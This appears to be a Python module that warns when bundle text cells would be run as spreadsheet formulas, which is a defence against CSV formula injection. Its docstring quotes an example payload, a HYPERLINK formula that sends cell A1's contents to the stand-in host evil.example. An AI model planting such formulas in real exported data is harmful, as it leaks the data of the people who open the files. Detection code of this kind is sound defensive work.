"""Warnings for bundle text that a spreadsheet would run as a formula (issue 10, failure 3).

A unit named ``=HYPERLINK("http://evil.example/?d="&A1,"open")`` is valid data: orgraph keeps it
as text, and every file it writes for people makes it inert (loaders/neutralise.py). But such a
name is more often an attack than a name, and the bundle it came in may be opened elsewhere, so
``orgraph check`` and ``orgraph load`` (and an import over HTTP) warn about each such cell,
naming its file, row and column (its cell, in a workbook). A bundle full of them gets the first
``MAX_LISTED`` of each table, then one line with how many more.

The cells are those ``loaders.neutralise`` would neutralise: text columns (and extra columns)
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, after the reader has taken
away the apostrophe of an export (so an exported name that looks like a formula warns again).

>>> from loaders.raw import RawBundle, RawTable
>>> table = RawTable("units.csv", ["id", "name"], [(2, {"id": "u-1", "name": "=1+1"})])
>>> [(w.where, w.column, w.code) for w in formula_warnings(RawBundle({"units": table}))]
[('units.csv:2', 'name', 'formula_like')]
"""

from __future__ import annotations

from pathlib import Path

from graph_model.errors import Problem, Severity
from graph_model.progress import Progress
from loaders.neutralise import FORMULA_STARTS, is_text_column
from loaders.raw import RawBundle, RawTable
from loaders.readers import read_bundle_tables
from loaders.validate import ValidatedBundle, validate_bundle

#: The cells listed one by one in each table; the rest are counted.
MAX_LISTED = 20
#: The codes of the two warnings (loaders/messages.py may say them in Chinese).
FORMULA_LIKE, FORMULA_LIKE_MORE = "formula_like", "formula_like_more"
#: How much of a cell a warning quotes.
_QUOTED = 60


def read_bundle_warning_of_formulas(
    path: str | Path, progress: Progress | None = None
) -> ValidatedBundle:
    """``loaders.read_bundle``, its warnings followed by ``formula_warnings``, the tables read
    from disk once."""
    raw = read_bundle_tables(Path(path), progress)
    validated = validate_bundle(raw, progress)
    return ValidatedBundle(validated.bundle, [*validated.warnings, *formula_warnings(raw)])


def formula_warnings(raw: RawBundle) -> list[Problem]:
    """A warning for each text cell a spreadsheet would take for a formula."""
    warnings: list[Problem] = []
    for stem, table in raw.tables.items():
        found = 0
        for number, cells in table.each_row():
            for column, cell in cells.items():
                if cell.startswith(FORMULA_STARTS) and is_text_column(stem, column):
                    found += 1
                    if found <= MAX_LISTED:
                        warnings.append(_formula_like(table, number, column, cell))
        if found > MAX_LISTED:
            warnings.append(_more(table, found - MAX_LISTED))
    return warnings


def _formula_like(table: RawTable, row: int, column: str, cell: str) -> Problem:
    quoted = cell if len(cell) <= _QUOTED else cell[:_QUOTED] + "…"
    message = (
        f"{quoted!r} starts with {cell[0]!r}: a spreadsheet would run it as a formula; it is "
        "kept as text and written with a leading apostrophe (') when exported"
    )
    letter = (table.letters or {}).get(column)
    return Problem(
        table.source,
        row,
        column,
        message,
        Severity.WARNING,
        cell=None if letter is None else f"{letter}{row}",
        code=FORMULA_LIKE,
        params=(("value", repr(quoted)), ("start", repr(cell[0]))),
    )


def _more(table: RawTable, count: int) -> Problem:
    message = f"{count} more cells start as a formula would (only the first {MAX_LISTED} listed)"
    params = (("count", str(count)), ("listed", str(MAX_LISTED)))
    return Problem(
        table.source, 0, "-", message, Severity.WARNING, code=FORMULA_LIKE_MORE, params=params
    )


__all__ = [
    "FORMULA_LIKE",
    "FORMULA_LIKE_MORE",
    "MAX_LISTED",
    "formula_warnings",
    "read_bundle_warning_of_formulas",
]
